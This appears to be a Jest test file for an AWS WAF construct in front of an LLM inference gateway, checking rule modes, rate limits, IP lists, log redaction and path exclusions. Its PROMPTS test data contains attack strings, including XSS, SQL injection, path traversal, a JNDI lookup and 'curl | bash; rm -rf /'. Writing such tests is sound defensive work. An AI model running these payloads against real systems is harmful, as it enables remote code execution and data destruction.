import { FIREWALL_RULES } from "../../environment/gateway-choices";
import { atLeastPattern } from "../../modules/edge-firewall/at-least-pattern";
import { EdgeFirewall } from "../../modules/edge-firewall/edge-firewall";
import { example } from "../../modules/edge-firewall/edge-firewall.example";
import type { EdgeFirewallProps } from "../../modules/edge-firewall/edge-firewall-props";
import { onlyResource, resourcesOf, synthesize } from "../support/synth";

const KEY = "arn:aws:kms:eu-central-1:222222222222:key/11111111-2222-3333-4444-555555555555";

const props: EdgeFirewallProps = {
  name: "bedrock-dev-gateway",
  stageArn: "arn:aws:apigateway:eu-central-1::/restapis/a1b2c3d4e5/stages/live",
  logs: { kmsKeyArn: KEY },
};

function build(changes: Partial<EdgeFirewallProps> = {}) {
  return synthesize((stack) => {
    new EdgeFirewall(stack, "firewall", { ...props, ...changes });
  });
}

type Json = Readonly<Record<string, unknown>>;

interface Rule {
  readonly name: string;
  readonly statement: Json;
  readonly action?: Json;
  readonly override_action?: Json;
}

function rulesOf(changes: Partial<EdgeFirewallProps> = {}): Rule[] {
  return onlyResource(build(changes), "aws_wafv2_web_acl").rule as Rule[];
}

/** Parts of a request that AWS's groups read. @see https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-list.html */
const GROUP_READS: Readonly<Record<string, readonly string[]>> = {
  AWSManagedRulesAmazonIpReputationList: ["address"],
  AWSManagedRulesCommonRuleSet: ["body", "headers", "query", "path"],
  AWSManagedRulesKnownBadInputsRuleSet: ["body", "headers", "query", "path"],
};

/** What a synthesized rule reads of a request for a path. */
function readsOf({ name, statement }: Rule, path: string): readonly string[] {
  const group = statement.managed_rule_group_statement as
    | { name: string; scope_down_statement?: { not_statement: { statement: Json[] } } }
    | undefined;
  if (group !== undefined) {
    const reads = GROUP_READS[group.name];
    if (reads === undefined)
      throw new Error(`${name} uses ${group.name}, of which the test does not know what it reads`);
    const [excluded] = group.scope_down_statement?.not_statement.statement ?? [];
    const match = excluded?.regex_match_statement as { regex_string: string; field_to_match: Json } | undefined;
    if (match === undefined) return reads;
    expect(match.field_to_match).toEqual({ uri_path: {} });
    return new RegExp(match.regex_string).test(path) ? [] : reads;
  }
  const text = JSON.stringify(statement);
  return ["body", "json_body"].filter((field) => text.includes(`"${field}"`)).length > 0
    ? ["body"]
    : ["headers", "address"];
}

const readers = (path: string, part: string) =>
  rulesOf()
    .filter((rule) => readsOf(rule, path).includes(part))
    .map(({ name }) => name);

/** Prompts that the groups' body rules take for attacks. */
const PROMPTS = [
  ["markup", "Why does <script>alert(document.cookie)</script> run here?"],
  ["SQL", "Explain: SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --"],
  ["a path", "My test reads ../../../../etc/passwd, is that safe?"],
  ["an exploit", "We log %{jndi:ldap://x/a}: are we affected?"],
  ["a metadata address", "Block calls to http://169.254.169.254/latest/meta-data/ in this function"],
  ["a shell", "Fix: curl http://x | bash; rm -rf / --no-preserve-root"],
] as const;

const INFERENCE = [
  "/anthropic/v1/messages",
  "/live/anthropic/v1/messages",
  "/bedrock/model/eu.amazon.nova-pro-v1:0/converse-stream",
  "/live/bedrock/model/m/invoke",
  "/openai/v1/chat/completions",
  "/openai/v1/responses",
];

describe.each(INFERENCE)("%s", (path) => {
  test.each(PROMPTS)("a prompt with %s is read by no rule: %s", () => {
    expect(readers(path, "body")).toEqual([]);
  });

  test("addresses and rates are looked at all the same", () => {
    expect(readers(path, "address")).toEqual([
      "IpReputation",
      "RateByAddress",
      "RateByAuthorization",
      "RateByApiKey",
      "BodySize",
    ]);
  });
});

test.each([
  "/access/v1/me",
  "/live/access/v1/me",
  "/",
  "/.env",
  "/wp-login.php",
  "/x/y/bedrock/",
  "/bedrock",
  "/Bedrock/model",
])("an attack on %s is read whole", (path) => {
  expect(readers(path, "body")).toEqual(["Common", "KnownBadInputs"]);
});

test("every rule counts until it is told to block", () => {
  const allowedNetworks = ["203.0.113.0/24"];
  const modeOf = ({ action, override_action }: Rule) => Object.keys(action ?? override_action ?? {});
  const rules = rulesOf({ allowedNetworks });
  expect(rules.map(({ name }) => name)).toEqual(FIREWALL_RULES);
  for (const rule of rules) expect(modeOf(rule)).toEqual(["count"]);

  const modes = Object.fromEntries(FIREWALL_RULES.map((name) => [name, "block" as const]));
  for (const rule of rulesOf({ allowedNetworks, modes })) {
    expect(modeOf(rule)).toEqual([rule.action === undefined ? "none" : "block"]);
  }
});

test("what is in neither list of networks is found", () => {
  const stack = build({ allowedNetworks: ["203.0.113.0/24", "2001:db8::/32"] });
  expect(resourcesOf(stack, "aws_wafv2_ip_set")).toMatchObject([
    { ip_address_version: "IPV4", addresses: ["203.0.113.0/24"] },
    { ip_address_version: "IPV6", addresses: ["2001:db8::/32"] },
  ]);
  const [first] = onlyResource(stack, "aws_wafv2_web_acl").rule as Rule[];
  expect(first).toMatchObject({
    name: "AllowedNetworks",
    statement: { not_statement: { statement: [{ or_statement: { statement: { length: 2 } } }] } },
  });
});

test("one list needs no choice, and none makes no rule", () => {
  const [first] = rulesOf({ allowedNetworks: ["203.0.113.0/24"] });
  expect(first?.statement).toMatchObject({ not_statement: { statement: [{ ip_set_reference_statement: {} }] } });
  expect(rulesOf().map(({ name }) => name)).not.toContain("AllowedNetworks");
});

test("a caller is the credential with the address", () => {
  const rules = rulesOf({ requestsByCaller: 500, requestsByAddress: 9_000 });
  expect(rules.find(({ name }) => name === "RateByApiKey")?.statement).toMatchObject({
    rate_based_statement: {
      limit: 500,
      aggregate_key_type: "CUSTOM_KEYS",
      custom_key: [{ ip: {} }, { header: { name: "x-api-key" } }],
    },
  });
  expect(rules.find(({ name }) => name === "RateByAddress")?.statement).toEqual({
    rate_based_statement: { limit: 9_000, aggregate_key_type: "IP" },
  });
});

test("the log keeps what rules have found, without credentials, encrypted and with an end", () => {
  const stack = synthesize(example);
  expect(onlyResource(stack, "aws_wafv2_web_acl_logging_configuration")).toMatchObject({
    redacted_fields: ["authorization", "x-api-key", "cookie"].map((name) => ({ single_header: { name } })),
    logging_filter: { default_behavior: "DROP", filter: [{ behavior: "KEEP", requirement: "MEETS_ANY" }] },
  });
  expect(onlyResource(stack, "aws_cloudwatch_log_group")).toMatchObject({
    name: "aws-waf-logs-acme-prod-gateway",
    kms_key_id: KEY,
    retention_in_days: 90,
  });
  expect(JSON.stringify(onlyResource(stack, "aws_wafv2_web_acl"))).not.toContain('"sampled_requests_enabled":true');
});

test("the stage is behind it", () => {
  expect(onlyResource(build(), "aws_wafv2_web_acl_association")).toMatchObject({ resource_arn: props.stageArn });
});

test.each([1, 9, 10, 99, 100, 4_000_001, 10_485_760])(
  "the pattern for %i takes it and what is above, and nothing below",
  (least) => {
    const pattern = new RegExp(atLeastPattern(least));
    const above = [least, least + 1, least * 2, least * 10, least * 10 + 3, least * 1000];
    const below = [0, 1, Math.floor(least / 2), Math.floor(least / 10), least - 2, least - 1].filter(
      (n) => n < least && n >= 0,
    );
    expect(above.filter((n) => !pattern.test(`${n}`))).toEqual([]);
    expect(below.filter((n) => pattern.test(`${n}`))).toEqual([]);
    expect(pattern.test(`000${least}`)).toBe(true);
    expect(pattern.test(`${least}x`)).toBe(false);
  },
);

test.each<[string, Partial<EdgeFirewallProps>, string]>([
  ["a name with a dot", { name: "a.b" }, 'name is "a.b"'],
  ["a network of everything", { allowedNetworks: ["0.0.0.0/0"] }, 'allowedNetworks has "0.0.0.0/0"'],
  ["an address without its length", { allowedNetworks: ["203.0.113.7"] }, 'allowedNetworks has "203.0.113.7"'],
  ["a mode of no network", { modes: { AllowedNetworks: "block" } }, "allowedNetworks is empty"],
  ["a rate of 9", { requestsByCaller: 9 }, "requestsByCaller is 9"],
  ["a body past API Gateway's", { maximumBodyBytes: 10_485_761 }, "maximumBodyBytes is 10485761"],
])("%s is refused with what was given", (_, changes, message) => {
  expect(() => build(changes)).toThrow(message);
});

test("a mode of an unknown rule is refused", () => {
  const modes: Record<string, "block"> = { SqlInjection: "block" };
  expect(() => build({ modes })).toThrow('modes has "SqlInjection"');
});
